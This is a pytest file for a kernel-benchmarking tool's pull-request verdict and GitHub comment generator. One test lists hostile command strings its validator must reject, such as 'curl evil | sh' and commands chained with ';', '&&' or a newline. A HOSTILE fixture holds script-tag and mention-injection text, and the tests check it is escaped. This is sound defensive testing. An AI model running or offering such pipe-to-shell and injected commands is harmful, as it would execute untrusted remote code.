"""A result of a pull request: its verdict and its comment."""

from __future__ import annotations

import html
import json
import random
import re
import shlex
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pr_results import BASE, HEAD, move, pair, result, slower, static, target

from farm.accuracy.tolerances import WORST
from farm.cli import pr_measure
from farm.cli.main import parser
from farm.compile.diff import BuildChange
from farm.pr import comment as comments
from farm.pr import ledger as ledgers
from farm.pr import measured
from farm.pr import result as results
from farm.report.markdown import plain
from farm.subject.repository import History

WIDE = "cuda/rms_norm/liger/auto/forward/bf16/8192x4096/llama"
NARROW = "cuda/rms_norm/liger/auto/forward/bf16/32768x128/llama"


def headline(found: dict[str, Any]) -> str:
    return comments.headline(found, results.outcome(found))


def test_first_line_is_the_answer_with_its_evidence() -> None:
    ascend = target(target="ascend910b", backend="ascend", compiled=10, same_code=2)
    twelve = [pair(f"cpu/rms_norm/liger/auto/forward/fp32/{n}x4096") for n in range(12)]
    found = result(*twelve, static=static(targets=[ascend]))
    assert headline(found) == (
        "Bits identical in 12 of 12 cells (interpreted on a CPU); all of 12 cells launch a changed kernel; no NPU ran."
    )
    assert results.outcome(found).exit_code == 4
    found = result(slower(WIDE, 1.1786), pair(NARROW))
    assert headline(found).startswith("1 of 2 timed cells slower: cuda/rms\\_norm/liger")
    assert "takes 1.179 times base's time (99 % interval 1.169 to 1.189), 32.00 → 37.72 µs, 4,211" in headline(found)
    assert headline(found).endswith("executed on NVIDIA H200.")
    found = result(static=static(changed=[], targets=[target(compiled=12, same_code=12)]))
    assert headline(found).startswith("No kernel changed")
    assert results.outcome(found).exit_code == 0


def outcome(*pairs: dict[str, Any], **given: Any) -> tuple[str, int]:
    found = results.outcome(result(*pairs, **given))
    return found.name, found.exit_code


def test_outcomes() -> None:
    fails = {"status_b": "inaccurate", "worst_b": 4.0, "same_bits": False}
    assert outcome(pair()) == ("not worse", 0)
    assert outcome(pair(**fails)) == ("worse", 1)
    assert outcome(pair(**fails, status_a="inaccurate")) == ("not worse", 0)  # failing in base too is not head's
    assert outcome(pair(**fails, status_a="absent")) == ("worse", 1)
    assert outcome(slower(WIDE)) == ("worse", 1)
    assert outcome(pair(status_b="lost")) == ("infrastructure failures", 3)
    assert outcome(pair(), faults=["the judge died"]) == ("infrastructure failures", 3)
    assert outcome() == ("not proven", 4)
    assert outcome(pair(), static=static(unreached=["_backward"])) == ("not covered", 1)
    assert outcome(static=static(unreached=["_backward"])) == ("not covered", 1)
    assert outcome(pair(speed="inconclusive")) == ("inconclusive", 4)
    assert outcome(pair("cpu/rms_norm/liger/x"), static=static()) == ("not proven", 4)
    broken = {"cell": WIDE, "status_a": "built", "status_b": "compile_error", "reason": "x"}
    assert outcome(static=static(targets=[target(failed=[broken])])) == ("worse", 1)
    assert outcome(pair(), static=static(targets=[target(moves=[move(measure="spills", a=0.0, b=8.0)])])) == (
        "worse",
        1,
    )
    test = {
        "id": "test_x.py::test",
        "kind": "test",
        "status_a": "passed",
        "status_b": "crashed",
        "owner": "",
        "reason": "",
    }
    assert outcome(pair(), tests=[{**test, "us_a": None, "us_b": None}]) == ("worse", 1)
    unchanged = static(changed=[], targets=[target(compiled=3, same_code=3)])
    assert outcome(static=unchanged) == ("unchanged", 0)
    assert outcome(static={**unchanged, "unknown": [{"kernel": "k", "why": "cuTile"}]})[1] == 4
    assert outcome(static={**unchanged, "host": ["dispatch.py"]})[1] == 4


def test_code_that_launches_kernels_is_proven_on_devices_alone() -> None:
    host = static(changed=[], host=["dispatch.py"], targets=[target(compiled=3, same_code=3)])
    interpreted = pair("cpu/rms_norm/liger/x", kernels=[])
    assert outcome(interpreted, static=host) == ("not proven", 4)
    assert outcome(interpreted, pair(WIDE), static=host) == ("not worse", 0)


def test_a_changed_kernel_whose_launches_nobody_sees_is_not_proven() -> None:
    unseen = static(unknown=[{"kernel": "ops/rms_norm.py:_forward", "why": "it cannot be read"}])
    assert outcome(pair(), static=unseen) == ("not proven", 4)
    assert outcome(slower(WIDE), static=unseen) == ("worse", 1)
    reached = [{"kernel": "ops/rms_norm.py:_forward", "state": "reached"}]
    assert outcome(pair(), static=measured.with_launches(unseen, reached)) == ("not worse", 0)
    unreached = static(unreached=["ops/rms_norm.py:_forward"])
    assert outcome(pair(), static=unreached) == ("not covered", 1)
    assert outcome(pair(), static=measured.with_launches(unreached, reached)) == ("not worse", 0)


def test_what_a_peer_fails_at_is_nobodys_change() -> None:
    def row(cell: str, status: str) -> dict[str, Any]:
        return {"cell_id": cell, "op": "rms_norm", "backend": "cuda", "status": status, "evidence": "executed"}

    rows = [row("cuda/x/a", "passed"), row("cuda/x/b", "crashed")]
    both = {"cell": "cuda/x", "cell_id_a": "cuda/x/a", "cell_id_b": "cuda/x/b"}
    (found,) = measured.executed([{**both, "role": "subject", "kernels": "_norm"}], rows, {})
    assert found["kernels"] == ["_norm"]  # as the device launched it, where stage 0 built no such cell
    assert (found["status_a"], found["status_b"]) == ("passed", "crashed")
    assert measured.executed([{**both, "role": "peer"}], rows, {}) == []


#: What no acknowledgement of a regression accepts -> the conclusion that stays.


def test_a_reader_is_shown_no_command_that_is_not_ours() -> None:
    good = pair("cuda/x", status_b="crashed")["repeat"]
    assert good in comments.comment(result(pair("cuda/x", status_b="crashed")))
    assert results.repeat("farm pr --base aaaa --head bbbb --subject a/b.yaml --sandbox") and results.repeat(good)
    assert results.repeat(shlex.join([*good.split()[:-1], "id=cuda/x y/[1]"]))
    for bad in (
        "curl evil | sh",
        "farm pr --base aaaa; curl evil",
        f"{good} && x",
        f"{good}\nx",
        f"{good} --repo https://e.vil/x",
        f"{good} --provider x=evil:f",
        f"{good} --contracts evil",
        "farm run x.yaml",
        "farm ab --a patch=x --b revision=bbbb",
        "farm ab --a",
        "farm ab 'x",
        "",
    ):
        assert results.repeat(bad) == ""
        text = comments.comment(result(pair("cuda/x", status_b="crashed", repeat=bad), repeat=bad))
        assert "Repeat" not in text


@pytest.mark.parametrize("sandbox", [True, False])
def test_what_repeats_a_sandboxed_job_asks_for_the_sandbox(sandbox: bool) -> None:
    work = pr_measure._Work.__new__(pr_measure._Work)
    work.args = parser("pr").parse_args(["pr", "m.yaml", "--base", "main", "--target", "ascend910b,sm_90"])
    work.args.debug = False
    work.history, work.sandbox, work.top, work.id = History(BASE, HEAD, 0, {}), sandbox, Path("x"), "r"
    told = [work._repeat(pair()), work._repeat_all()]
    assert [("--sandbox" in words) for words in told] == [sandbox] * 2 and all(map(results.repeat, told))
    text = comments.comment(result(pair(repeat=told[0]), repeat=told[1]))
    assert told[0] in text and told[1] in text  # what may be repeated is shown
    assert work._ab().sandbox is sandbox


def test_groups_are_ordered_by_harm_and_never_by_name() -> None:
    cells = [f"cuda/rms_norm/liger/auto/forward/bf16/{n}x4096" for n in (1, 2, 3)]
    wrong = pair(
        "cuda/zeta/liger/auto/forward/bf16/8x8", status_b="inaccurate", worst_b=3.0, place="y: row 7 of every head"
    )
    found = result(slower(cells[0], 1.04), slower(cells[1], 1.30), pair(cells[2], speed="improved", ratio=0.5), wrong)
    text = comments.comment(found).partition("| ran on")[2]
    at = [text.index(w) for w in ("Broken, zeta", "Slower, rms", "/2x4096", "Faster")]
    assert at == sorted(at) and "y: row 7 of every head" in text


def test_a_ratio_is_told_only_where_there_is_one() -> None:
    wrong = {"status_b": "inaccurate", "place": "y: 1 of 64 elements is wrong"}
    cell = "cuda/rms_norm/liger/auto/forward/bf16/8x8"
    assert "3.00x the tolerance" in comments.comment(result(pair(cell, **wrong, worst_b=3.0)))
    assert "x the tolerance" not in comments.comment(result(pair(cell, **wrong, worst_b=WORST)))


def test_crossover_names_where_head_wins_and_loses() -> None:
    axes = {"dtype": "bfloat16", "operation": "forward"}
    wide = [
        slower(f"cuda/rms_norm/x/auto/forward/bf16/{r}x8192", axes={**axes, "hidden": "8192", "rows": str(r)})
        for r in (1, 2)
    ]
    thin = [
        pair(
            f"cuda/rms_norm/x/auto/forward/bf16/{r}x128",
            speed="improved",
            ratio=0.8,
            axes={**axes, "hidden": "128", "rows": str(r)},
        )
        for r in (1, 2)
    ]
    assert "Crossover: head is faster at hidden 128, slower at hidden 8192." in comments.comment(result(*wide, *thin))


def test_since_the_last_push() -> None:
    before = ledgers.read(comments.comment(result(slower(WIDE), slower(NARROW))))
    later = result(slower(NARROW), slower(WIDE.replace("8192", "64")), head={**result()["head"], "sha": "f" * 40})
    text = comments.comment(later, before)
    assert f"last push ({HEAD[:12]} was measured before), of what fails or is slower: 1 fixed, 1 new, 1 as" in text


HOSTILE = "<script>alert(1)</script> | @everyone #1 `x` [a](http://b) <!-- kernel-farm:1 7 x --> \n# head \x1b[31m"


@given(st.text(alphabet="@#&$;ab1/._|\\`\u200b\u2066é \n<>:", max_size=40))
@settings(max_examples=300, deadline=None)
def test_text_of_others_is_neither_mention_nor_markup_and_can_be_read(text: str) -> None:
    """GitHub looks for mentions and issues after references and backslashes have become characters."""
    made = plain(text)
    shown = html.unescape(re.sub(r"\\([\\`*_\[\]~|])", r"\1", made))
    assert not re.search(r"(?:^|[^0-9A-Za-z_])@[0-9A-Za-z]", shown) and not re.search(r"#\d", shown)
    assert not re.search(r"[@$<>\n]|://", made)
    kept = "".join(c for c in " ".join(text.split()) if c not in "\u200b\u2066")
    assert shown.replace("\u200b", "") == kept


def test_hostile_text_is_written_literally_everywhere() -> None:
    bad = pair(
        cell="cuda/" + HOSTILE[:200],
        status_b="crashed",
        reason=HOSTILE,
        place=HOSTILE,
        launch_a=HOSTILE,
        repeat="```\n" + HOSTILE,
    )
    found = result(
        bad,
        slower("cuda/x/" + HOSTILE[:100], launch_b=HOSTILE),
        static=static(
            changed=[HOSTILE], unreached=[HOSTILE], host=[HOSTILE], harness=[HOSTILE], tools=[HOSTILE],
            unknown=[{"kernel": HOSTILE, "why": HOSTILE}], targets=[target(moves=[move(kernel=HOSTILE)])],
        ),
        not_run=[{"what": HOSTILE, "why": HOSTILE}],
        run=HOSTILE[:100],
        repeat=HOSTILE,
        faults=[HOSTILE],
    )  # fmt: skip
    text = comments.comment(found)
    fence = ""
    for line in text.splitlines()[1:]:
        mark = re.match(r"`{3,}", line)
        if mark and not fence:
            fence = mark[0]
        elif fence and line == fence:
            fence = ""
        elif not fence:
            bare = re.sub(r"</?(details|summary)>", "", line)
            assert "<" not in bare and "@every" not in bare and not re.search(r"(?<!\\)\]\(|://|\x1b", bare), line
            assert not line.startswith("# "), line
    assert ledgers.read(text) is not None and not fence


@pytest.mark.parametrize("size", [0, 1, 300, 20_000])
def test_comment_stays_below_the_forges_limit(size: int) -> None:
    kinds = [pair, slower, lambda cell: pair(cell, status_b="crashed", reason="x" * 900, place="&" * 900)]
    pairs = [kinds[n % 3](f"cuda/op{n % 40}/p/auto/forward/bf16/{n}x4096/{'long=' + 'y' * 200}") for n in range(size)]
    text = comments.comment(result(*pairs))
    assert len(text) <= 60_000 and ledgers.number_of(text) == 7
    assert len(comments.outdated(text, "c" * 40)) <= 60_000


def test_random_results_have_a_comment_and_one_verdict() -> None:
    generator = random.Random(11)
    statuses = ["passed", "inaccurate", "crashed", "lost", "infra_error", "unsupported", "absent"]
    for _ in range(150):
        pairs = []
        for n in range(generator.randrange(6)):
            p = pair(f"{generator.choice(['cuda', 'cpu', 'ascend', 'sim'])}/op{n}/x/{n}")
            p |= {"status_a": generator.choice(statuses), "status_b": generator.choice(statuses)}
            p |= {"speed": generator.choice(["regressed", "improved", "same", "none", "inconclusive", "unfit"])}
            p |= {
                k: generator.choice([None, 0.5, 1.5]) for k in ("ratio", "low", "high", "gbps_a", "gbps_b", "worst_b")
            }
            pairs.append(p)
        found = result(*pairs, static=generator.choice([None, static()]))
        results.read(json.dumps(found))
        assert results.outcome(found).exit_code in (0, 1, 3, 4)
        assert comments.comment(found).count("\n### ") == 1


def interpreted(n: int, **given: Any) -> dict[str, Any]:
    return pair(f"cpu/rms_norm/liger/auto/forward/fp32/{n}x4096", **{"ratio": None, "gbps_a": None, **given})


def test_first_line_says_what_is_proven_elsewhere_and_whether_bits_that_differ_are_right() -> None:
    ascend = target(target="ascend910b", backend="ascend", compiled=10, same_code=2)
    both = [ascend, target(same_code=12)]
    near = interpreted(1, same_bits=False, worst_a=0.021, worst_b=0.035, bytes_a=8000, bytes_b=6000)
    found = result(near, interpreted(2), static=static(targets=both), not_run=[{"what": "cuda", "why": "none"}])
    assert headline(found) == (
        "Bits identical in 1 of 2 cells (interpreted on a CPU), the others within tolerance; all of 2 cells launch a "
        "changed kernel; machine code differs for ascend910b in 8 of 10 compiled cells, is identical for sm\\_90; no "
        "NPU ran."
    )
    text = comments.comment(found)
    assert (
        "**Verdict: not proven**: nothing" in text
        and "Check: neutral, so this blocks no merge: nothing is proven." in text
    )
    assert "on a device of ascend (NPU)." in text
    assert "Yes, within the tolerance: other bits in 1 of 2 cells; the error grew in 1 cell, up to 1.67 times" in text
    assert "1x4096: 2.1 % → 3.5 %" in text and "not timed" in text and "time over" not in text
    assert "1x4096: 8,000 → 6,000 (-25.0 %)" in text
    assert "cuda (NVIDIA GPU): none, 12 cells only compiled for sm\\_90 (identical machine code in all)" in text
    assert "| sm\\_90 | 12 |  | not known | 12 | 0 | 0 |" in text and "How to repeat one cell?** Here cpu/rms" in text
    assert "within tolerance" not in headline(result(interpreted(1, same_bits=False, status_b="crashed")))
    assert "machine code" not in headline(result(interpreted(1), static=static(targets=[target(unknown=12)])))


def test_machine_code_is_a_row_for_each_kernel_by_harm_with_units() -> None:
    narrow, wide = (f"rms_norm/liger/auto/forward/fp32/8x{n}" for n in (64, 4096))
    less = [
        move(cell=wide, cells=2, measure="Unified Buffer, bytes", a=188736.0, b=139520.0, worse=False),
        move(cell=wide, cells=2, measure="buffers", a=20.0, b=16.0, worse=False),
        move(cell=wide, cells=2, measure="global loads (hivm)", a="4 (1d_float)", b="1 (1d_float), 2 (2d_float)"),
    ]
    less[2]["worse"] = False
    slow = move(cell=narrow, cells=1, measure="occupancy", a=1.0, b=0.5, worse=False)
    spill = move(cell="z", cells=1, measure="spills", a=0.0, b=8.0, worse=True)
    found = result(static=static(targets=[target(moves=[*less, slow, spill])]))
    results.read(json.dumps(found))
    rows = [line for line in comments.comment(found).splitlines() if line.startswith("| sm\\_90 | \\_forward")]
    assert [r.split("|")[4].strip() for r in rows] == [
        "spills 0 → 8 (worse)",
        "occupancy 100 % → 50 %",
        "Unified Buffer 188,736 → 139,520 bytes; global loads (hivm) 4 → 3",
    ]
    assert "cuda/rms\\_norm/liger/auto/forward/fp32/8x4096&#64;sm\\_90 and 1 more" in rows[2]


def test_instructions_are_kept_by_width() -> None:
    change = BuildChange(
        "sm_90", "_f", "forward", (("global loads (sass)", "4 (32 bits)", "1 (128 bits)"),), ("cuda/a/b@sm_90",)
    )
    (kept,) = measured._moves(change)
    assert (kept["cell"], kept["a"], kept["b"]) == ("a/b", "4 (32 bits)", "1 (128 bits)")
    assert kept["worse"] is False


def test_changed_kernels_say_which_cells_launch_them() -> None:
    axes = {"dtype": "float32", "operation": "forward", "rows": "8"}
    wide = interpreted(1, axes={**axes, "hidden": "4096"}, kernels=["_tiled"])
    thin = interpreted(2, axes={**axes, "hidden": "64"}, kernels=[])
    text = comments.comment(result(wide, thin, static=static(changed=["_tiled"], targets=[])))
    assert "1 of 40: \\_tiled (launched by 1 of the 2 cells that ran: hidden 4096)." in text
    other = pair("cpu/layer_norm/x/auto/forward/fp32/8x64", axes={**axes, "hidden": "64"}, kernels=[])
    text = comments.comment(result(wide, other, static=static(changed=["_tiled"], targets=[])))
    assert "(launched by 1 of the 2 cells that ran: op rms\\_norm; hidden 4096)." in text


def test_what_nothing_is_known_of_is_in_the_first_line() -> None:
    blind = {"compiled": 4, "same_code": 0, "unknown": 4, "why": "unsupported: no module"}
    targets = [target(**blind), target(**blind | {"target": "sm_100", "compiled": 6})]
    kernel = {"kernel": "_cached", "why": "launches of cutile kernels are not seen without a device"}
    found = result(static=static(unknown=[kernel], targets=targets), not_run=[{"what": "cuda", "why": "none"}])
    assert headline(found).startswith("Nothing is known of \\_cached: launches of cutile kernels are not seen")
    assert headline(found).endswith("; no NVIDIA GPU ran.")
    text = comments.comment(found)
    assert "| sm\\_100 | 6 |  | not known | 0 | 2 | 4: unsupported: no module |" in text
    assert "| sm\\_90 | 4 |  | not known | 0 | 0 | 4: unsupported: no module |" in text


def test_how_sure_and_what_is_undecided_are_said() -> None:
    open_ = pair(NARROW, speed="inconclusive", ratio=1.03, low=0.98, high=1.08, threshold=0.035)
    text = comments.comment(result(slower(WIDE), open_, interpreted(1, threshold=None)))
    assert "99 % interval (here 1.170 to 1.190)" in text and "threshold (2.0 % to 3.5 %)" in text
    assert "2 cells were timed: 1 is judged by 3 rounds and 1 by 15. Every cell is timed in 2 or 3 rounds." in text
    assert f"Undecided: 1 cell: {plain(NARROW)} (too noisy: interval 0.9800 to 1.080 after 3 rounds)." in text
    assert "**Slower, rms\\_norm: 1 of 2 timed cells**" in text
    assert "1 of 2 timed cells**" in text.partition("**Undecided")[2]
    assert text.index("99 % interval") < text.index("**Slower") < text.index("**Undecided")
    assert "interval" not in comments.comment(result(interpreted(1, threshold=None)))


def test_the_pattern_of_slower_cells_is_among_timed_cells() -> None:
    thin = pair(NARROW, axes={"dtype": "bfloat16", "operation": "forward", "rows": "8192", "hidden": "128"})
    text = comments.comment(result(slower(WIDE), thin, interpreted(1, axes={"dtype": "float32", "rows": "8"})))
    assert "timed cells**: seen at hidden 4096" in text


def test_cells_that_the_interpreter_could_not_run_are_said() -> None:
    rows = [{"cell_id": f"cpu/{n}", "status": "unsupported", "reason": "no module"} for n in range(3)]
    done = {"cell_id": "cpu/2", "status": "passed", "reason": ""}
    sides = [SimpleNamespace(interpreted=rows), SimpleNamespace(interpreted=[*rows[:2], done])]
    assert measured.unsupported(SimpleNamespace(sides=sides)) == [  # type: ignore[arg-type]
        {"what": "2 interpreted cells", "why": "unsupported: no module"}
    ]
    assert measured.unsupported(SimpleNamespace(sides=[SimpleNamespace(interpreted=None)] * 2)) == []  # type: ignore[arg-type]


def test_first_line_says_what_is_wrong_with_the_first_broken_cell() -> None:
    wrong = {
        "status_b": "inaccurate",
        "same_bits": False,
        "reason": "y: every element is wrong, scaled by 1.01; first [0]",
    }
    found = result(slower(NARROW), pair(WIDE, **wrong))
    assert headline(found).startswith("1 cell broken: first cuda/rms\\_norm")
    assert "/llama (y: every element is wrong, scaled by 1.01); 1 of 2 timed cells slower" in headline(found)
